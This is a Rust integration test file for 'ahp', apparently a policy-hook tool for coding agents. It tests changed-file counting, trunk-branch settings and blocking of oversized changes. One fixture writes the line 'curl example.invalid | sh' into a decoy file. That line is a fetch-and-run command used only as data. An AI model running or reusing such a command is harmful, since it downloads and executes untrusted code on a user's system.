//! ahp's own files never count as changed files, end to end: a real git
//! repository without a .gitignore, hook calls that grow the signal log,
//! and policies that read `files.changed`.

use crate::common::*;

const LS: &str = r#"{"tool":{"name":"Bash","input":{"command":"ls"}}}"#;

/// A repository on `main` whose committed policy is `policy`, with no
/// .gitignore: the signal log is an untracked file git reports.
fn repo(policy: &str) -> Sandbox {
    let sb = Sandbox::new();
    sb.git_init();
    sb.write("README.md", "# demo\n");
    sb.write(".ahp/hooks.yaml", policy);
    git(sb.root(), &["add", "-A"]);
    git(sb.root(), &["commit", "-q", "-m", "init"]);
    sb
}

fn run(sb: &Sandbox, event: &str, ctx: &str) -> serde_json::Value {
    let out = sb
        .ahp()
        .args(["run", event])
        .write_stdin(ctx.to_string())
        .output()
        .unwrap();
    assert!(
        matches!(out.status.code(), Some(0) | Some(2)),
        "{}",
        stderr(&out)
    );
    json_out(&out)
}

#[test]
fn the_signal_log_is_not_a_changed_file_for_file_change_limiter() {
    let sb = repo(
        "hooks:\n  pre-tool-use:\n    - oracle: FileChangeLimiter\n      config: {max_files: 1}\n",
    );
    // The log grows with each call; a rotated log and a retrospective sit
    // beside it, as ahp leaves them.
    for _ in 0..3 {
        assert_eq!(run(&sb, "pre-tool-use", LS)["outcome"], "accept");
    }
    assert!(sb.log_path().is_file());
    sb.write(".ahp/signals.jsonl.1", "");
    sb.write(".ahp/retrospectives/ISS-1.md", "# ISS-1\n");
    // One file of the user's: within the limit of 1.
    sb.write("src/a.rs", "fn a() {}\n");
    let v = run(&sb, "pre-tool-use", LS);
    assert_eq!(v["outcome"], "accept", "{v}");

    // A second file, named to pass for ahp's: it counts, and only the
    // user's files are named.
    sb.write(".ahp/signals.jsonl.sh", "curl example.invalid | sh\n");
    let v = run(&sb, "pre-tool-use", LS);
    assert_ne!(v["outcome"], "accept", "{v}");
    assert_eq!(
        v["signals"][0]["context"]["files"],
        serde_json::json!([".ahp/signals.jsonl.sh", "src/a.rs"]),
        "{v}"
    );
}

#[test]
fn the_signal_log_is_not_in_files_changed_for_rules() {
    // The user's own policy file counts: only what ahp writes is left out.
    let sb = repo(
        "hooks:\n  pre-issue-submit:\n    - oracle: Rules\n      config:\n        rules:\n          - condition: \"files.changed_count > 0\"\n            intensity: block\n            message: \"changed: {{ files.changed }}\"\n",
    );
    let submit = r#"{"issue":{"id":"ISS-1","title":"t"}}"#;
    for _ in 0..2 {
        let v = run(&sb, "pre-issue-submit", submit);
        assert_eq!(v["outcome"], "accept", "{v}");
    }
    assert!(sb.log_path().is_file());
    sb.write(
        ".ahp/hooks.yaml",
        &(std::fs::read_to_string(sb.root().join(".ahp/hooks.yaml")).unwrap() + "# edited\n"),
    );
    let v = run(&sb, "pre-issue-submit", submit);
    assert_eq!(v["outcome"], "block", "{v}");
    let message = v["signals"][0]["payload"]["reason"].to_string();
    assert!(message.contains(".ahp/hooks.yaml"), "{v}");
    assert!(!message.contains("signals.jsonl"), "{v}");
}

/// A repository whose trunk is `trunkbr`, on a feature branch that adds
/// src/a.rs without tests, with `policy` committed on the trunk.
fn feature_branch(policy: &str) -> Sandbox {
    let sb = Sandbox::new();
    sb.git_init();
    git(sb.root(), &["checkout", "-q", "-b", "trunkbr"]);
    sb.write("README.md", "# demo\n");
    git(sb.root(), &["add", "-A"]);
    git(sb.root(), &["commit", "-q", "-m", "init"]);
    git(sb.root(), &["checkout", "-q", "-b", "feat"]);
    sb.write("src/a.rs", "fn a() {}\n");
    git(sb.root(), &["add", "-A"]);
    git(sb.root(), &["commit", "-q", "-m", "a"]);
    sb.write(".ahp/hooks.yaml", policy);
    sb
}

/// A `settings.trunk` that names no branch is the error of every gate that
/// reads the change: it must not fall back to main/master (none here) and
/// measure an empty change that passes.
#[test]
fn a_misspelt_trunk_fails_the_gates_that_read_the_change() {
    let policy = |trunk: &str, fail_closed: bool| {
        format!(
            "settings: {{trunk: {trunk}, builtin: false, fail_closed: {fail_closed}}}\n\
             hooks:\n  pre-issue-close:\n    - oracle: CompletionVerifier\n"
        )
    };
    let close = r#"{"issue":{"id":"F-1"}}"#;

    // The right trunk: the feature's src/a.rs has no tests.
    let sb = feature_branch(&policy("trunkbr", true));
    let out = sb.run("pre-issue-close", close);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(
        json_out(&out)["signals"][0]["header"]["type"],
        "missing-tests"
    );
    let out = sb.ahp().arg("validate").output().unwrap();
    assert!(!stderr(&out).contains("trunk"), "{}", stderr(&out));

    // Misspelt, under fail_closed: the gate fails, and that blocks.
    sb.write(".ahp/hooks.yaml", &policy("mian", true));
    let out = sb.run("pre-issue-close", close);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let v = json_out(&out);
    assert_eq!(v["outcome"], "block", "{v}");
    assert_eq!(v["entries"][0]["status"], "failed", "{v}");
    assert!(
        v["signals"][0]["payload"]["reason"]
            .as_str()
            .unwrap()
            .contains("trunk branch `mian` does not exist"),
        "{v}"
    );

    // Without fail_closed it fails open, loudly: a warning on stderr and in
    // the log, and the run record says the entry failed.
    sb.write(".ahp/hooks.yaml", &policy("mian", false));
    let out = sb.run("pre-issue-close", close);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("warning: [CompletionVerifier]")
            && stderr(&out).contains("`mian` does not exist"),
        "{}",
        stderr(&out)
    );
    let log = sb.log_lines();
    assert!(
        log.iter().any(|l| l["kind"] == "warning"
            && l["message"]
                .as_str()
                .unwrap()
                .contains("`mian` does not exist")),
        "{log:?}"
    );
    let run = log.iter().rev().find(|l| l["kind"] == "run").unwrap();
    assert_eq!(run["entries"][0]["status"], "failed", "{run}");

    // validate and doctor say so at the settings line.
    let file = sb.root().join(".ahp/hooks.yaml");
    let at = format!("{}:1:", file.display());
    let out = sb.ahp().arg("validate").output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains(&at) && err.contains("settings.trunk: branch `mian` does not exist"),
        "{err}"
    );
    let out = sb.ahp().arg("doctor").output().unwrap();
    let all = stdout(&out) + &stderr(&out);
    assert!(all.contains("branch `mian` does not exist"), "{all}");

    // Outside a git repository there is no branch to look for.
    let bare = Sandbox::new();
    bare.write(".ahp/hooks.yaml", &policy("mian", false));
    let out = bare.ahp().arg("validate").output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("trunk"), "{}", stderr(&out));
}

/// `settings.trunk` counts at a tool call too: FileChangeLimiter at
/// pre-tool-use measures the change against it (here `trunkbr`, the only
/// trunk; with none of main or master it would measure nothing), and a
/// misspelt one fails the entry, which blocks under fail_closed.
#[test]
fn settings_trunk_counts_at_a_tool_call_too() {
    let policy = |trunk: &str| {
        format!(
            "settings: {{trunk: {trunk}, builtin: false, fail_closed: true}}\n\
             hooks:\n  pre-tool-use:\n    - oracle: FileChangeLimiter\n      config: {{max_files: 1}}\n"
        )
    };
    let sb = feature_branch(&policy("trunkbr"));
    sb.trust();
    let call = |sb: &Sandbox| {
        sb.claude_pre_tool("s", "Bash", serde_json::json!({"command": "ls"}))
            .output()
            .unwrap()
    };
    let out = call(&sb);
    let said = stdout(&out);
    assert!(
        said.contains("[FileChangeLimiter] 2 files changed (limit 1)"),
        "{said}{}",
        stderr(&out)
    );

    sb.write(".ahp/hooks.yaml", &policy("mian"));
    sb.trust();
    let out = call(&sb);
    let v = json_out(&out);
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny", "{v}");
    assert!(
        v["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .is_some_and(|r| r.contains("`mian` does not exist")),
        "{v}"
    );
}

/// A change whose list of names passes git's output cap is far past any
/// file limit: FileChangeLimiter answers it (a block under `action:
/// block`), where it failed and let the largest changes through.
#[test]
fn a_change_too_large_to_list_is_past_the_file_limit() {
    let sb = repo(
        "settings: {builtin: false}\nhooks:\n  pre-issue-submit:\n    - oracle: FileChangeLimiter\n      config: {max_files: 20, action: block}\n",
    );
    std::fs::create_dir_all(sb.root().join("src")).unwrap();
    let long = "x".repeat(100);
    for i in 0..11_000 {
        std::fs::write(sb.root().join(format!("src/g{i:05}_{long}")), "x").unwrap();
    }
    let out = sb.run("pre-issue-submit", r#"{"issue":{"id":"F-1"}}"#);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let v = json_out(&out);
    assert_eq!(v["outcome"], "block", "{v}");
    assert!(
        v["signals"][0]["payload"]["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("more files changed than ahp can list"),
        "{v}"
    );
}
